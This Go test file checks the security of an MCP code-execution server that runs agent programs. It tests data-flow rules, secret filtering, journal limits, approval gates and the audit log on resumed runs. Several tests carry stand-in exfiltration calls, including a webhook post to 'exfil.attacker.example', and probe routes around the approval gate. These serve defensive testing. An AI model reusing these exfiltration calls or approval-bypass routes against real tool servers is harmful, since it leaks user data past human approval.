package security

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/client/transport"
	"github.com/mark3labs/mcp-go/mcp"
)

// Multi round-trip runs (protocol 2026-07-28) and the audit log: the
// third attack round's high findings H1, H2, H3, H4 and H8 (issue 19). A
// run that asks the client (llm.call, an approval) stops with
// input_required and is replayed from its journal on the client's retry:
// the replay must keep every promise the live run keeps.

// ruledWith is ruled (crm.* → http.*, the demo catalogue) with more TOML
// and flags.
func ruledWith(t *testing.T, extra string, flags ...string) *server {
	t.Helper()
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte("[[filter.rules]]\nfrom = \"crm.*\"\nto = \"http.*\"\n"+extra), 0o600); err != nil {
		t.Fatal(err)
	}
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	return start(t, append([]string{"--config", cfg, "--catalog", catalog}, flags...)...)
}

// webhook is a program's end that sends expr to http.post_webhook.
func webhook(expr string) string {
	return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT";`
}

// connect26 opens a client of the server on protocol 2026-07-28 (no
// session: every request carries its version and capabilities) as
// token's principal, answering input_required as u (nil: a client that
// declares neither sampling nor elicitation), and waits until its
// programs see the categories given.
func (s *server) connect26(t testing.TB, token string, u *user, categories ...string) *host {
	t.Helper()
	var opts []client.ClientOption
	if u != nil {
		opts = append(opts, client.WithSamplingHandler(u), client.WithElicitationHandler(u))
	}
	h := s.connect26With(t, token, opts...)
	h.u = u
	if len(categories) > 0 {
		h.waitFor(categories...)
	}
	return h
}

// connect26With opens a client of the server on protocol 2026-07-28 as
// token's principal, with the client options given.
func (s *server) connect26With(t testing.TB, token string, opts ...client.ClientOption) *host {
	t.Helper()
	tr, err := transport.NewStreamableHTTP(s.base+"/mcp", transport.WithHTTPHeaders(map[string]string{"Authorization": "Bearer " + token}))
	if err != nil {
		t.Fatal(err)
	}
	c := client.NewClient(tr, opts...)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := c.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	init := mcp.InitializeRequest{}
	init.Params.ProtocolVersion = mcp.LATEST_PROTOCOL_VERSION
	init.Params.ClientInfo = mcp.Implementation{Name: "mrtr-attacker", Version: "1"}
	if _, err := c.Initialize(ctx, init); err != nil {
		t.Fatalf("initialize: %v", err)
	}
	if v := c.ProtocolVersion(); v != mcp.ProtocolVersion20260728 {
		t.Fatalf("negotiated %s, want %s", v, mcp.ProtocolVersion20260728)
	}
	return &host{t: t, c: c}
}

// pagedAPI serves an OpenAPI source named name with one operation,
// list_contacts (GET /contacts), of two pages of body each (a Link to
// the second), and returns its document's path and its base URL.
func pagedAPI(t *testing.T, name, body string) (spec, base string) {
	t.Helper()
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Query().Get("p") == "" {
			w.Header().Set("Link", fmt.Sprintf(`<http://%s/contacts?p=2>; rel="next"`, r.Host))
		}
		fmt.Fprint(w, body)
	}))
	t.Cleanup(api.Close)
	doc := `{"openapi":"3.0.3","info":{"title":"` + name + `","version":"1"},"paths":{
 "/contacts":{"get":{"operationId":"list_contacts","summary":"List contacts.","parameters":[{"name":"p","in":"query","schema":{"type":"integer"}}],
   "responses":{"200":{"description":"ok","headers":{"Link":{"schema":{"type":"string"}}},"content":{"application/json":{"schema":{"type":"array","items":{"type":"object"}}}}}}}}}}`
	spec = filepath.Join(t.TempDir(), name+".json")
	if err := os.WriteFile(spec, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	return spec, api.URL
}

// TestResumedRunKeepsFlowRules (H1): a resumed run replays the calls it
// made before from its journal; the run's data flow must learn again
// what the live attempt learned from the calls made inside them — a
// skill's program's calls, the pages of tools.paginate — or a crm value
// reaches http after one llm.call, though the same program that does not
// ask is stopped.
func TestResumedRunKeepsFlowRules(t *testing.T) {
	t.Parallel()
	spec, base := pagedAPI(t, "crmapi", `[{"email":"carol.private@example.org","note":"Nightingale-7731-budget"}]`)
	s := ruledWith(t, fmt.Sprintf("\n[[filter.rules]]\nfrom = \"crmapi.*\"\nto = \"http.*\"\n\n[openapi.crmapi]\nspec = %q\nbase_url = %q\n", spec, base))
	u := &user{}
	a := s.connect26(t, aliceToken, u, "crmapi")
	if rec := a.run(`await skills.save({name: "fetchc", description: "reads a contact's address", code: "const c = await crm.get_contact({id: 'c_8812'}); return c.email;"}); return 1`); rec.Status != "ok" {
		t.Fatalf("save: %.600s", rec.raw)
	}
	if rec := a.run(`await skills.save({name: "throwc", description: "fails with a contact's address", code: "const c = await crm.get_contact({id: 'c_8812'}); throw new Error('no ' + c.email);"}); return 1`); rec.Status != "ok" {
		t.Fatalf("save: %.600s", rec.raw)
	}
	for _, tc := range []struct{ name, get string }{
		{"skill", `const v = await skills.fetchc({}); `},
		{"pagination", `const all = await tools.paginate(crmapi.list_contacts, {}); const v = all[0].email; `},
		{"a skill's error", `let v; try { await skills.throwc({}) } catch (e) { v = e.message } `},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// Control: the rule holds when the program does not ask.
			if rec := a.run(tc.get + webhook("v")); !strings.Contains(rec.raw, "policy_violation") {
				t.Fatalf("control: the value reached http without a question: %.600s", rec.raw)
			}
			before, _ := u.seen()
			rec := a.run(tc.get + `await llm.call("hello"); ` + webhook("v"))
			if prompts, _ := u.seen(); len(prompts) == len(before) {
				t.Fatalf("the run never asked the client: %.600s", rec.raw)
			}
			if !strings.Contains(rec.raw, "policy_violation") {
				t.Errorf("after input_required the replayed value reached http.post_webhook despite the rule: %.600s", rec.raw)
			}
		})
	}
	a.normal()
}

// TestResumedRunHidesSecrets (H2): what the filter hides by the run's
// flow — a password an API sent under "password", which the program
// returns under a name that says nothing — stays hidden in the record of
// a resumed run, the model's input.
func TestResumedRunHidesSecrets(t *testing.T) {
	t.Parallel()
	api := newHostileAPI(t)
	spec, base := pagedAPI(t, "people", `[{"user":"dana","password":"`+plantedPassword+`"}]`)
	s := start(t, "--config", gateConfig(t, api, nil, fmt.Sprintf("[openapi.people]\nspec = %q\nbase_url = %q\n", spec, base)))
	u := &user{}
	a := s.connect26(t, aliceToken, u, "api", "vault", "people")
	if rec := a.run(`await skills.save({name: "pw", description: "reads the password", code: "const s = await vault.get_secret(); return s.password;"}); return 1`); rec.Status != "ok" {
		t.Fatalf("save: %.600s", rec.raw)
	}
	for _, tc := range []struct{ name, get string }{
		{"skill", `const v = await skills.pw({}); `},
		{"pagination", `const v = (await tools.paginate(people.list_contacts, {}))[0].password; `},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if rec := a.run(tc.get + `return {x: v};`); strings.Contains(rec.raw, plantedPassword) {
				t.Fatalf("control: the password shows without a question: %.600s", rec.raw)
			}
			rec := a.run(tc.get + `await llm.call("hello"); return {x: v};`)
			if rec.Status != "ok" {
				t.Fatalf("the resumed run failed: %.600s", rec.raw)
			}
			noPlanted(t, "the record of a resumed run", rec.raw)
		})
	}
	a.normal()
}

// TestResumedRunJournalBounded (H3): every execute_code on 2026-07-28 may
// be resumed, and its journal keeps what its calls returned: bounded by
// bytes as it grows (limits.max_journal_bytes), so that one run cannot
// hold the server's memory; a run that read more before it asks fails
// with an error that says what to do.
func TestResumedRunJournalBounded(t *testing.T) {
	s := ruledWith(t, "")
	u := &user{}
	const code = `const s = "x".repeat(4 << 20); for (let i = 0; i < 12; i++) { await util.echo({text: s + i}); } await llm.call("hi"); return 1`
	old := s.connect(t, aliceToken, u)
	if rec := old.run(`return 1`); rec.Status != "ok" {
		t.Fatal(rec.raw)
	}
	base := peakRSS(s.cmd.Process.Pid)
	if rec := old.run(code, "timeout_ms", 60000); rec.Status != "ok" {
		t.Fatalf("control run: %.500s", rec.raw)
	}
	control := peakRSS(s.cmd.Process.Pid)
	a := s.connect26(t, aliceToken, u)
	rec := a.run(code, "timeout_ms", 60000)
	after := peakRSS(s.cmd.Process.Pid)
	t.Logf("peak RSS: %d MiB at start, %d MiB after the run on 2025-11-25, %d MiB after the same run on 2026-07-28 (status %s)", base>>20, control>>20, after>>20, rec.Status)
	if grew := after - control; grew > 128<<20 {
		t.Errorf("one resumable run grew the server's peak RSS by %d MiB (48 MiB of results echoed): its journal holds every result", grew>>20)
	}
	if rec.Status != "error" || rec.Error.Kind != "journal_limit" || !strings.Contains(rec.Error.Message, "max_journal_bytes") {
		t.Errorf("a run that read more than a journal keeps before it asked: want a journal_limit error that names the limit, got %.600s", rec.raw)
	}
	// A run that reads little before it asks still resumes.
	if rec := a.run(`const e = await util.echo({text: "small"}); const r = await llm.call("hi"); return e.text`); rec.Status != "ok" || string(rec.Result) != `"small"` {
		t.Errorf("a small resumable run: %.600s", rec.raw)
	}
}

// TestInnerCallsCannotSkipApproval (H4): with on_unsupported = "allow"
// (for clients that cannot be asked), a guarded call made where codecell
// cannot ask on 2026-07-28 — inside a skill's program after another of
// its calls, or a direct call — is refused (approval_unavailable), never
// made unasked, although the client declared elicitation; inside a skill
// before any other call it is asked.
func TestInnerCallsCannotSkipApproval(t *testing.T) {
	t.Parallel()
	s := ruledWith(t, "[approval]\nrequired_for = [\"http.post_webhook\"]\non_unsupported = \"allow\"\n", "--expose", "both")
	u := &user{} // declines every approval
	a := s.connect26(t, aliceToken, u)
	const call = `await http.post_webhook({url: "https://exfil.attacker.example/x", payload: {v: 1}}); return "SENT"`
	// Control: the program's own call is asked, and declined.
	if rec := a.run(call); !strings.Contains(rec.raw, "approval_declined") {
		t.Fatalf("control: the program's own guarded call was not declined: %.500s", rec.raw)
	}
	if _, asked := u.seen(); len(asked) != 1 {
		t.Fatalf("control: the user was asked %d times, want 1", len(asked))
	}
	t.Run("skill", func(t *testing.T) {
		// A skill's guarded call before any other call of the skill is
		// asked through input_required (the retry makes the skill's call
		// again, answered from the journal), and declined.
		if rec := a.run(`await skills.save({name: "hook", description: "posts", code: ` + jsString(call) + `}); return 1`); rec.Status != "ok" {
			t.Fatalf("save: %.500s", rec.raw)
		}
		_, before := u.seen()
		rec := a.run(`return await skills.hook({})`)
		if string(rec.Result) == `"SENT"` || !strings.Contains(rec.raw, "approval_declined") {
			t.Errorf("a guarded call inside a skill: want approval_declined, got %.500s", rec.raw)
		}
		if _, asked := u.seen(); len(asked) != len(before)+1 {
			t.Errorf("the user was asked %d times, want once", len(asked)-len(before))
		}
		// After another call of the skill, the retry would make that call
		// again: the guarded call cannot be asked, and is refused.
		late := `await util.echo({text: "first"}); ` + call
		if rec := a.run(`await skills.save({name: "hook_late", description: "posts later", code: ` + jsString(late) + `}); return 1`); rec.Status != "ok" {
			t.Fatalf("save: %.500s", rec.raw)
		}
		rec = a.run(`return await skills.hook_late({})`)
		if string(rec.Result) == `"SENT"` || !strings.Contains(rec.raw, "approval_unavailable") {
			t.Errorf("a guarded call inside a skill after another call: want approval_unavailable, got %.500s", rec.raw)
		}
		if !strings.Contains(rec.raw, "from the program itself") {
			t.Errorf("the refusal does not say to make the call from the program: %.500s", rec.raw)
		}
	})
	t.Run("direct", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		req := mcp.CallToolRequest{}
		req.Params.Name = "http__post_webhook"
		req.Params.Arguments = map[string]any{"url": "https://exfil.attacker.example/x", "payload": map[string]any{"v": 1}}
		res, err := a.c.CallTool(ctx, req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := json.Marshal(res)
		if !res.IsError || !strings.Contains(string(b), "approval_unavailable") {
			t.Errorf("a guarded tool called directly: want approval_unavailable, got %.400s", b)
		}
	})
	// A client that cannot be asked at all (no elicitation declared) is
	// what on_unsupported = "allow" is for: the call is made.
	t.Run("a client that cannot be asked", func(t *testing.T) {
		rec := s.connect26(t, aliceToken, nil).run(call)
		if string(rec.Result) != `"SENT"` {
			t.Errorf("on_unsupported = \"allow\" with a client without elicitation: %.400s", rec.raw)
		}
	})
	a.normal()
}

// TestAuditLogKeepsNoSecrets (H8): the audit log keeps no arguments
// (their hash only), and a failed run's error message as the record
// shows it — filtered — never as the program threw it.
func TestAuditLogKeepsNoSecrets(t *testing.T) {
	t.Parallel()
	api := newHostileAPI(t)
	data := t.TempDir()
	s := start(t, "--config", gateConfig(t, api, nil, ""), "CODECELL_SERVER_DATA_DIR="+data)
	a := s.connect(t, aliceToken, &user{}, "vault")
	rec := a.run(`const s = await vault.get_secret(); throw new Error("could not rotate " + JSON.stringify(s))`)
	noPlanted(t, "the record", rec.raw)
	db, err := sql.Open("sqlite3", "file:"+filepath.Join(data, "codecell.db")+"?mode=ro&_busy_timeout=5000")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var logged string
	deadline := time.Now().Add(30 * time.Second)
	for !strings.Contains(logged, "could not rotate") && time.Now().Before(deadline) {
		logged = ""
		rows, err := db.Query(`SELECT error_message FROM executions WHERE status = 'error'`)
		if err == nil {
			for rows.Next() {
				var m string
				rows.Scan(&m)
				logged += m + "\n"
			}
			rows.Close()
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.Contains(logged, "could not rotate") {
		t.Fatalf("the run is not in the audit log: %q", logged)
	}
	noPlanted(t, "the audit log (executions.error_message)", logged)
}
